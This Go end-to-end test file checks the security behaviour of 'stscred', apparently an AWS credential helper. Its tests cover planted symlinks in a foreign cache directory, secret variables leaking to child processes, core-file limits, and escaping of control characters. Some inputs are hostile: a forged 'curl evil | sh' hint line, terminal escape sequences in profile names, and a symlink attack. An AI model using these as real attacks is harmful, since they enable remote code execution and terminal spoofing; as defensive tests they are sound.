//go:build linux && realworld

package e2e

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stscred/stscred/internal/testkit/ststest"
	"github.com/stscred/stscred/internal/testkit/testenv"
)

// A cache directory another user made before the first run is refused:
// nothing is written into it or through a symlink planted in it.
func TestCacheDirOfAnotherUser(t *testing.T) {
	testenv.Require(t, os.Geteuid() == 0, "needs root to give a directory to another user")
	w := newWorld(t)
	w.addAlice()
	if err := os.RemoveAll(w.cacheDir()); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(w.cacheDir(), 0o777); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(w.tmp, "victim")
	os.WriteFile(victim, []byte("precious\n"), 0o600)
	os.Symlink(victim, filepath.Join(w.cacheDir(), "used-mfa-planted.tmp"))
	os.MkdirAll(filepath.Join(w.cacheDir(), "locks"), 0o777)
	if err := filepath.Walk(w.cacheDir(), func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, 65534, 65534) }); err != nil {
		t.Fatal(err)
	}
	res := w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "role", "prod-admin")
	w.assertCleanFailure(res, "belongs to another user")
	if b, _ := os.ReadFile(victim); string(b) != "precious\n" {
		t.Fatalf("the planted symlink's target was written: %q", b)
	}
	ents, _ := os.ReadDir(w.cacheDir())
	if len(ents) != 2 {
		t.Fatalf("stscred wrote into another user's directory: %v", ents)
	}
	if w.srv.Calls("GetSessionToken") != 0 {
		t.Fatal("it went on to STS")
	}
}

// A configured session bus that is gone is an error (like a locked
// keyring): auto does not fall back to a new file keystore where the keys
// are not.
func TestUnreachableBusIsAnError(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	w.stscred("clear")
	res := w.stscredEnv([]string{"DBUS_SESSION_BUS_ADDRESS=unix:path=" + filepath.Join(w.tmp, "no-bus"), "STSCRED_MFA_TOKEN=" + w.code()}, "role", "prod-admin")
	w.assertCleanFailure(res, "secret-service")
	if !strings.Contains(res.stderr, "DBUS_SESSION_BUS_ADDRESS names a session bus that does not answer") {
		t.Fatalf("no hint about the bus: %s", res.stderr)
	}
	if _, err := os.Stat(w.fileDir()); err == nil {
		t.Fatal("a file keystore was created")
	}
	// With a file keystore present while the OS keyring holds alice's key,
	// stscred says which one it uses and where the other keys are.
	bobKey := w.srv.AddUser("111111111111", "bob").AddAccessKey()
	add := w.run(bobKey.ID+"\n"+bobKey.Secret+"\n", w.env("STSCRED_BACKEND=file", "STSCRED_FILE_PASSPHRASE="+filePassphrase), w.bin, "add", "bob")
	if add.code != 0 {
		t.Fatalf("add bob to a file keystore: %s", add)
	}
	doc := w.stscredEnv([]string{"STSCRED_FILE_PASSPHRASE=" + filePassphrase}, "doctor")
	if !strings.Contains(doc.stdout, "the OS keyring (secret-service) also holds keys of alice") {
		t.Fatalf("doctor does not say the OS keyring holds alice's key:\n%s", doc)
	}
}

// An exec child outlives a killed stscred without a dangling endpoint: it
// holds the endpoint's port, so no other process can bind it.
func TestExecChildKeepsThePort(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	uriFile := filepath.Join(w.tmp, "uri")
	cmd := exec.Command(w.bin, "exec", "prod", "--", "sh", "-c", `echo "$AWS_CONTAINER_CREDENTIALS_FULL_URI" > "$URI_FILE"; exec sleep 300`)
	cmd.Env = w.env("STSCRED_MFA_TOKEN="+w.code(), "URI_FILE="+uriFile)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL); cmd.Wait() })
	var uri string
	for i := 0; i < 600 && uri == ""; i++ {
		if b, err := os.ReadFile(uriFile); err == nil && strings.HasSuffix(string(b), "\n") {
			uri = strings.TrimSpace(string(b))
		}
		time.Sleep(50 * time.Millisecond)
	}
	if !strings.HasPrefix(uri, "http://127.0.0.1:") {
		t.Fatalf("no endpoint URL from the child: %q", uri)
	}
	addr := strings.TrimSuffix(strings.TrimPrefix(uri, "http://"), "/credentials")
	cmd.Process.Kill() // stscred only: the child lives on
	cmd.Wait()
	if ln, err := net.Listen("tcp", addr); err == nil {
		ln.Close()
		t.Fatal("after stscred died, another process could bind the child's endpoint port")
	}
}

// The stscred process writes no core file and cannot be traced: its core
// limit is zero (checked at the MFA prompt, with the key in memory).
func TestNoCoreFile(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	r := startPTY(t, w.env("GOTRACEBACK=crash"), w.bin, "role", "prod-admin")
	r.expect(promptText, 1)
	limits, err := os.ReadFile("/proc/" + strconv.Itoa(r.cmd.Process.Pid) + "/limits")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(limits), "\n") {
		if strings.HasPrefix(line, "Max core file size") {
			if f := strings.Fields(line); len(f) < 6 || f[4] != "0" || f[5] != "0" {
				t.Fatalf("core limit: %q", line)
			}
			return
		}
	}
	t.Fatalf("no core limit in /proc/PID/limits:\n%s", limits)
}

// Children never get the file keystore's passphrase or the MFA code given
// to stscred: exec's command, a foreign credential_process, mfa_process.
func TestChildrenGetNoPrivateVariables(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	out := filepath.Join(w.tmp, "env")
	private := []string{"STSCRED_MFA_TOKEN=" + w.code(), "STSCRED_FILE_PASSPHRASE=pass-" + strconv.Itoa(os.Getpid())}
	check := func(what string) {
		t.Helper()
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatalf("%s wrote no environment: %v", what, err)
		}
		if strings.Contains(string(b), "STSCRED_MFA_TOKEN") || strings.Contains(string(b), "STSCRED_FILE_PASSPHRASE") || !strings.Contains(string(b), "HOME=") {
			t.Fatalf("%s got:\n%s", what, b)
		}
		os.Remove(out)
	}
	if res := w.stscredEnv(private, "exec", "prod", "--", "sh", "-c", "env > "+out); res.code != 0 {
		t.Fatal(res)
	}
	check("exec's command")
	w.writeConfig(w.standardConfig() + "\n[profile tool]\ncredential_process = sh -c 'env > " + out + "; exit 1'\n")
	w.stscredEnv(private, "export", "tool")
	check("a foreign credential_process")
	w.writeConfig(strings.Replace(w.standardConfig(), "region     = eu-west-1\n", "region     = eu-west-1\nmfa_process = sh -c 'env > "+out+"; echo 000000'\n", 1))
	w.stscred("clear")
	w.stscredEnv(private[1:], "role", "prod-admin")
	check("mfa_process")
}

// Text from the command line or the config reaches the terminal escaped: a
// newline cannot forge a hint line, nor ESC or BEL a terminal sequence.
func TestControlCharactersEscaped(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	res := w.stscred("role", "x\nstscred: hint: curl evil | sh")
	w.assertCleanFailure(res, `x\nstscred: hint: curl evil | sh`)
	for _, line := range strings.Split(res.stderr, "\n") {
		if strings.HasPrefix(line, "stscred: hint: curl") {
			t.Fatalf("a forged hint line: %s", res.stderr)
		}
	}
	w.writeConfig(w.standardConfig() + "\n[profile evil\x1b]0;pwned\x07]\nsource_profile = alice\nrole_arn = " + adminRole + "\n")
	for _, args := range [][]string{{"list"}, {"doctor"}, {"role", "evil\x1b]0;pwned\x07"}, {"role", "nosuch\x1b[2J"}} {
		r := w.stscred(args...)
		if strings.ContainsAny(r.stdout+r.stderr, "\x1b\x07") {
			t.Fatalf("stscred %q let a control character through:\n%q", args, r.stdout+r.stderr)
		}
	}
	// The MFA prompt on the terminal too.
	r := startPTY(t, w.env(), w.bin, "role", "evil\x1b]0;pwned\x07")
	r.expect(`(profile evil\x1b]0;pwned\x07)`, 1)
}

// What used to fail without a hint now has one; and what can go on does.
func TestRobustness(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	fifo := filepath.Join(w.tmp, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, config, want string
	}{
		{"config is /dev/zero", "/dev/zero", "is not a regular file"},
		{"config is a FIFO", fifo, "is not a regular file"},
		{"config is a directory", w.tmp, "is a directory"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w.t = t
			w.assertCleanFailure(w.stscredEnv([]string{"AWS_CONFIG_FILE=" + tc.config}, "role", "prod-admin"), tc.want)
		})
	}
	w.t = t
	for _, url := range []string{"ftp://sts.example", "http//bad", "::"} {
		w.stscred("clear")
		w.assertCleanFailure(w.stscredEnv([]string{"AWS_ENDPOINT_URL_STS=" + url, "STSCRED_MFA_TOKEN=" + w.code()}, "role", "prod-admin"), "is not an http or https URL")
	}
	// locks/ is a file.
	w.stscred("clear")
	os.RemoveAll(filepath.Join(w.cacheDir(), "locks"))
	os.WriteFile(filepath.Join(w.cacheDir(), "locks"), nil, 0o600)
	w.assertCleanFailure(w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "role", "prod-admin"), "is not a directory")
	os.Remove(filepath.Join(w.cacheDir(), "locks"))

	// Under umask 0777 a call works.
	w.stscred("clear")
	res := w.run("", w.env("STSCRED_MFA_TOKEN="+w.code()), "sh", "-c", `umask 0777; exec stscred role prod-admin`)
	w.decode(res)

	// A read-only cache directory: the fresh credentials are served, not
	// cached, with a warning.
	w.stscred("clear")
	if out, err := exec.Command("chattr", "+i", w.cacheDir()).CombinedOutput(); err != nil {
		t.Fatalf("chattr +i (e2fsprogs): %v %s", err, out)
	}
	defer exec.Command("chattr", "-i", w.cacheDir()).Run()
	ro := w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "role", "prod-admin")
	w.decode(ro)
	if !strings.Contains(ro.stderr, "warning: could not cache the credentials for prod-admin") {
		t.Fatalf("no warning about the read-only cache: %s", ro.stderr)
	}
	exec.Command("chattr", "-i", w.cacheDir()).Run()
}

// A tty prompt that gets three malformed entries, or Ctrl-D, ends with an
// error and a hint.
func TestPromptEndsWithAHint(t *testing.T) {
	w := newWorld(t)
	w.addAlice()
	r := startPTY(t, w.env(), w.bin, "role", "prod-admin")
	for i := 1; i <= 3; i++ {
		r.expect(promptText, i)
		r.typeLine("abc")
	}
	r.exit()
	if !strings.Contains(r.output(), "no valid MFA code entered") || !strings.Contains(r.output(), "hint: an MFA code is the 6 digits") {
		t.Fatalf("terminal:\n%s", r.output())
	}
	r = startPTY(t, w.env(), w.bin, "role", "prod-admin")
	r.expect(promptText, 1)
	r.tty.Write([]byte{4})
	r.exit()
	if !strings.Contains(r.output(), "Ctrl-D") || !strings.Contains(r.output(), "hint:") {
		t.Fatalf("terminal:\n%s", r.output())
	}
}

// The file keystore's own failures: a truncated identity, a full disk.
func TestFileKeystoreFailuresHaveHints(t *testing.T) {
	w := newWorldOn(t, "file", ststest.Options{})
	w.addAlice()
	w.fileStore().Forget()
	w.stscred("clear")
	id := filepath.Join(w.fileDir(), "identity.age")
	b, _ := os.ReadFile(id)
	os.WriteFile(id, b[:len(b)/2], 0o600)
	w.assertCleanFailure(w.stscredEnv([]string{"STSCRED_MFA_TOKEN=" + w.code()}, "session", "alice"), "is damaged")
	os.WriteFile(id, b, 0o600)

	testenv.Require(t, os.Geteuid() == 0, "needs root to mount a small tmpfs")
	full := filepath.Join(w.tmp, "full")
	os.Mkdir(full, 0o700)
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=12k,mode=0700", "tmpfs", full).CombinedOutput(); err != nil {
		t.Fatalf("mount: %v %s", err, out)
	}
	defer exec.Command("umount", full).Run()
	filler, _ := os.Create(filepath.Join(full, "filler"))
	for {
		if _, err := filler.Write(make([]byte, 1024)); err != nil {
			break
		}
	}
	filler.Close()
	res := w.run(w.key.ID+"\n"+w.key.Secret+"\n", w.env("STSCRED_FILE_DIR="+filepath.Join(full, "ks")), w.bin, "add", "--no-verify", "alice")
	w.assertCleanFailure(res, "no space left on device")
	if !strings.Contains(res.stderr, "the disk (or your quota) is full") {
		t.Fatalf("no hint about the full disk: %s", res.stderr)
	}
}
